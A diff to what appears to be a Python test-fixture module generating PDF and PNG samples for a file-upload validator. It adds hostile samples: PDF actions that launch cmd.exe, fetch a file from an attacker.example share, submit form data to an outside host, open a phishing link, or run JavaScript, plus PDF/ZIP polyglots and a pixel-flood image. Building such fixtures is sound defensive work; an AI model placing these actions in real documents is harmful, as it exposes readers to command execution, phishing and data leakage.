@@ -135,11 +135,99 @@ def pdf_with_javascript_token_in_comment() -> bytes:
 
 
 def pdf_with_benign_open_action_and_link() -> bytes:
-    """Common and harmless: open at page 1 fitted, and a web link annotation. Must be accepted."""
-    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.org) >> >>"
+    """Common and harmless: open at page 1 fitted, an internal link and a "next page" action. Must be accepted."""
+    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /Dest [3 0 R /Fit] >>"
+    goto = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>"
+    named = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Named /N /NextPage >> >>"
     catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"
-    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>"
-    return build_pdf([catalog, PAGES, page, link])
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R 5 0 R 6 0 R] >>"
+    return build_pdf([catalog, PAGES, page, link, goto, named])
+
+
+# Actions that leave the document, and where they hang (issue 9: all of these were accepted).
+URI_ACTION = b"<< /Type /Action /S /URI /URI (https://phishing.example/login) >>"
+SUBMIT_ACTION = b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> /Flags 4 >>"
+GOTOR_ACTION = b"<< /S /GoToR /F (//attacker.example/share/a.pdf) /D [0 /Fit] >>"
+GOTOE_ACTION = b"<< /S /GoToE /T << /R /C /N (payload.pdf) >> /D [0 /Fit] >>"
+IMPORT_ACTION = b"<< /S /ImportData /F (data.fdf) >>"
+LAUNCH_ACTION = b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
+JAVASCRIPT_ACTION = b"<< /S /JavaScript /JS (app.alert(1);) >>"
+
+
+def pdf_with_open_action(action: bytes) -> bytes:
+    """The action as the catalog's /OpenAction, run when the document opens."""
+    return pdf_with_catalog_entries(b"/OpenAction 4 0 R", action)
+
+
+def pdf_with_document_additional_action(action: bytes) -> bytes:
+    """The action under the catalog's /AA (/WC: "will close")."""
+    return pdf_with_catalog_entries(b"/AA << /WC 4 0 R >>", action)
+
+
+def pdf_with_page_open_action(action: bytes) -> bytes:
+    """The action under the page's /AA (/O: "page opened")."""
+    return pdf_with_page_entries(b"/AA << /O 4 0 R >>", action)
+
+
+def pdf_with_link_annotation(action: bytes) -> bytes:
+    """A Link annotation whose /A is the action (a click on the page runs it)."""
+    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A 5 0 R >>"
+    return pdf_with_page_entries(b"/Annots [4 0 R]", link, action)
+
+
+def pdf_with_form_field_kid_action(action: bytes) -> bytes:
+    """An /AcroForm field whose kid widget has the action under /AA (/K: "keystroke")."""
+    catalog_entries = b"/AcroForm << /Fields [4 0 R] >>"
+    field = b"<< /FT /Tx /T (nom) /Kids [5 0 R] >>"
+    widget = b"<< /Type /Annot /Subtype /Widget /Parent 4 0 R /Rect [0 0 50 20] /AA << /K 6 0 R >> >>"
+    catalog = b"<< /Type /Catalog /Pages 2 0 R " + catalog_entries + b" >>"
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [5 0 R] >>"
+    return build_pdf([catalog, PAGES, page, field, widget, action])
+
+
+def pdf_with_outline_action(action: bytes) -> bytes:
+    """An outline (bookmark) item whose /A is the action."""
+    outlines = b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>"
+    item = b"<< /Title (Page 1) /Parent 4 0 R /A 6 0 R >>"
+    return pdf_with_catalog_entries(b"/Outlines 4 0 R", outlines, item, action)
+
+
+def pdf_with_chained_action(action: bytes) -> bytes:
+    """A harmless GoTo /OpenAction whose /Next runs the action."""
+    return pdf_with_catalog_entries(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", action)
+
+
+def pdf_with_xfa_form() -> bytes:
+    xfa = b"<< /Length 20 >>\nstream\n<xdp:xdp></xdp:xdp>\nendstream"
+    return pdf_with_catalog_entries(b"/AcroForm << /Fields [] /XFA 4 0 R >>", xfa)
+
+
+def pdf_with_rich_media_annotation() -> bytes:
+    annotation = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>"
+    return pdf_with_page_entries(b"/Annots [4 0 R]", annotation)
+
+
+def pdf_zip_polyglot() -> bytes:
+    """A valid PDF with a ZIP archive appended after its %%EOF: readers open the PDF, unzip finds the payload."""
+    return pdf_bytes() + zip_bytes()
+
+
+def pdf_zip_polyglot_ending_with_eof() -> bytes:
+    """The same, the archive's comment ending with %%EOF so that the file still "ends like a PDF"."""
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w") as archive:
+        archive.writestr("payload.html", "<script>alert(1)</script>")
+        archive.comment = b"\n%%EOF\n"
+    return pdf_bytes() + output.getvalue()
+
+
+def pdf_incrementally_updated() -> bytes:
+    """A PDF saved twice (an incremental update after the first %%EOF): two %%EOF markers, legitimate."""
+    first = build_pdf([CATALOG, PAGES, PAGE])
+    xref_start = len(first)
+    update = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
+    previous = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
+    return first + update % (previous, xref_start)
 
 
 def pdf_without_pages() -> bytes:
@@ -230,6 +318,13 @@ def jpeg_claiming_size(width: int, height: int) -> bytes:
     sof = content.index(b"\xff\xc0")
     struct.pack_into(">HH", content, sof + 5, height, width)
     return bytes(content)
+
+
+def grey_png(width: int, height: int, mode: str = "RGB") -> bytes:
+    """A flat grey PNG written by Pillow: 6300 x 6300 RGB weighs about 130 KB (issue 9's pixel flood)."""
+    output = io.BytesIO()
+    Image.new(mode, (width, height), 128).save(output, format="PNG", compress_level=9)
+    return output.getvalue()
 
 
 def _png_chunk(kind: bytes, data: bytes) -> bytes:
